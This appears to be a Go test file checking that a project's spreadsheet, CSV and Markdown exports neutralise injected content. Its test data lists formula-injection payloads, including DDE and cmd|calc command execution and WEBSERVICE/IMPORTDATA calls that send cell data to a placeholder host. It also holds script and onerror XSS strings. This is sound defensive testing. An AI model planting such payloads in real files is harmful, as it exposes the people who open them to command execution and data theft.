package export

import (
	"archive/zip"
	"encoding/hex"
	"fmt"
	"io"
	"regexp"
	"strings"
	"testing"

	"github.com/tongket/tongket/model"
)

// formulaPayloads are 200 texts that a spreadsheet may take for a formula: what they begin with, and what they would do.
func formulaPayloads() (list []string) {
	for _, begin := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "\x00="} {
		for _, body := range []string{
			`1+1`, `cmd|' /C calc'!A0`, `HYPERLINK("http://x.test","bấm")`, `WEBSERVICE("http://x.test/"&A1)`, `IMPORTXML("http://x.test","//a")`,
			`DDE("cmd";"/C calc";"A0")`, `SUM(A1:A9)*cmd|'/c calc'!A0`, `"&CHAR(61)&"1`, `'=1`, `EXEC("calc")`, `REGISTER.ID("x","y")`, `A1"),HYPERLINK("http://x.test`,
			`IMPORTDATA("http://x.test")`, `RTD("x";;"y")`, `CALL("x","y","z")`, `INDIRECT("A1")`, `_xlfn.WEBSERVICE("http://x.test")`, `{1,2}`, `"";1)`, `</f></c><c t="str"><f>1+1</f>`,
		} {
			list = append(list, begin+body)
		}
	}
	return list
}

// hostile gives documents with a payload in every text that a page can fill.
func hostile() (docs []*model.Records) {
	for i, p := range formulaPayloads() {
		r := sample()
		r.Document.SHA256 = hex.EncodeToString([]byte{byte(i), byte(i >> 8)}) + strings.Repeat("0", 60)
		d := &r.Document
		d.Title, d.Kicker, d.Author, d.Outlet, d.Org, d.Source = p, p, p, p, p, p+".txt"
		m := &r.Metrics[0]
		m.Scope, m.Per, m.Org, m.District, m.Province, m.Quote, m.Rule = p, p, p, p, p, p, p
		r.Awards[0].Name, r.Awards[0].By, r.Awards[0].Quote = p, p, p
		r.Tasks[0].Marker, r.Tasks[0].Title, r.Tasks[0].Text = p, p, p
		r.References[0].Type, r.References[0].Number, r.References[0].Name, r.References[0].Date = p, p, p, p
		r.Campaigns[0].Name = p
		r.Warnings[0].Message, r.Warnings[0].Quote = p, p
		r.Numerals[0].Bin, r.Numerals[0].Quote = model.Unexplained, p
		r.Identify()
		docs = append(docs, r)
	}
	return docs
}

// hostileRun refuses a document for every payload.
func hostileRun() *Run {
	run := &Run{Date: "2024-12-31", Program: "tongket"}
	for _, p := range formulaPayloads() {
		run.Refused = append(run.Refused, Refusal{p + ".txt", p})
	}
	return run
}

// In the tables of a workbook the only formulas are links, and nothing of a text gets out of their constants. On the overview
// they are ours to the letter.
func TestNoFormulaInWorkbook(t *testing.T) {
	link := regexp.MustCompile(`^HYPERLINK\("(?:[^"]|"")*"(?:&"(?:[^"]|"")*")*,"(?:[^"]|"")*"(?:&"(?:[^"]|"")*")*\)$`)
	names := regexp.MustCompile(`^(?:SUMIFS|SUM|COUNTIFS|COUNTIF|COUNTA|IF|[a-z0-9_]+|\$?[A-Z]\d+|"[^"=+@-]*"|">0"|[-+*/(),=>]|\d+)+$`)
	raw := book(t, hostile(), Options{Page: "trang.html", Run: hostileRun(), Census: true})
	zr, err := zip.NewReader(strings.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}
	links := 0
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/sheet") {
			continue
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range regexp.MustCompile(`<f>(.*?)</f>`).FindAllStringSubmatch(string(b), -1) {
			formula := strings.NewReplacer("&lt;", "<", "&gt;", ">", "&#xD;", "\r", "&amp;", "&").Replace(m[1])
			switch {
			case f.Name == "xl/worksheets/sheet1.xml":
				if !names.MatchString(formula) {
					t.Errorf("overview: %s", formula)
				}
			case !link.MatchString(strings.NewReplacer("\n", " ", "\r", " ").Replace(formula)):
				t.Errorf("%s: %s", f.Name, formula)
			default:
				links++
			}
		}
		if n := strings.Count(string(b), "<f"); n != strings.Count(string(b), "<f>") {
			t.Errorf("%s: formulas of another kind", f.Name)
		}
	}
	if links < 5*len(formulaPayloads()) {
		t.Errorf("only %d links", links)
	}
}

// book writes documents to a workbook and gives its bytes.
func book(t *testing.T, docs []*model.Records, o Options) string {
	t.Helper()
	return writeAll(t, docs, o, "o.xlsx")["o.xlsx"]
}

// writeAll writes documents to targets in a folder and gives what every file holds.
func writeAll(t *testing.T, docs []*model.Records, o Options, targets ...string) map[string]string {
	t.Helper()
	dir := t.TempDir()
	var s Set
	defer s.Abort()
	for _, target := range targets {
		f, _ := ByPath(target)
		if err := s.Open(f, dir+"/"+target, o); err != nil {
			t.Fatal(err)
		}
	}
	for _, r := range docs {
		if err := s.Document(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Commit(); err != nil {
		t.Fatal(err)
	}
	return contents(t, dir)
}

// No text in a CSV file begins as a formula does, in any form of the file, alone or in a package.
func TestNoFormulaInCSV(t *testing.T) {
	files := 0
	for _, form := range []CSV{{}, {BOM: true, Delimiter: ';'}, {Delimiter: '\t'}, {DecimalComma: true}} {
		for name, text := range writeAll(t, hostile(), Options{CSV: form, Census: true}, "o.csv", "goi/") {
			if !strings.HasSuffix(name, ".csv") {
				continue
			}
			files++
			rows := parseCSV(t, text, form.form())
			for _, row := range rows[1:] {
				for i, cell := range row {
					if strings.ContainsAny(firstOf(cell), "=+-@\t\r\n\x00＝＋－＠") {
						t.Errorf("%s: %s begins as a formula: %q", name, rows[0][i], cell)
					}
				}
			}
		}
	}
	if kinds := len(model.Kinds()); files != 4*2*kinds {
		t.Errorf("%d files, want two of each of %d kinds in each form", files, kinds)
	}
}

// firstOf gives the first character of a cell that is no space.
func firstOf(s string) string {
	for _, r := range strings.TrimLeft(s, " \u00A0") {
		return string(r)
	}
	return ""
}

// Nothing in a summary is markup of a page's making.
func TestNoMarkupInMarkdown(t *testing.T) {
	docs := hostile()
	for i, p := range []string{`<script>alert(1)</script>`, `[bấm](javascript:alert(1))`, `![x](http://x.test/a.png)`, "a\n# b", "a | b", "`x`", `<img src=x onerror=alert(1)>`} {
		docs[i].Document.Source, docs[i].Warnings[0].Message = p, p
		docs[i].Warnings[0].Code = model.ConflictingValues
	}
	run := hostileRun()
	run.Refused = append([]Refusal{{"<b>x</b>", "[a](b)"}}, run.Refused...)
	text := writeAll(t, docs, Options{Run: run}, "o.md")["o.md"]
	for i, line := range strings.Split(text, "\n") {
		bare := regexp.MustCompile(`\\.`).ReplaceAllString(line, "")
		if strings.ContainsAny(bare, "<>`[]") || strings.HasPrefix(line, "# ") != (i == 0) {
			t.Errorf("line %d: %s", i+1, line)
		}
	}
	if !strings.Contains(text, fmt.Sprintf("và %d tài liệu khác", len(run.Refused)-maxWorst)) {
		t.Errorf("the list of refused documents does not say how many more there are:\n%s", text)
	}
}
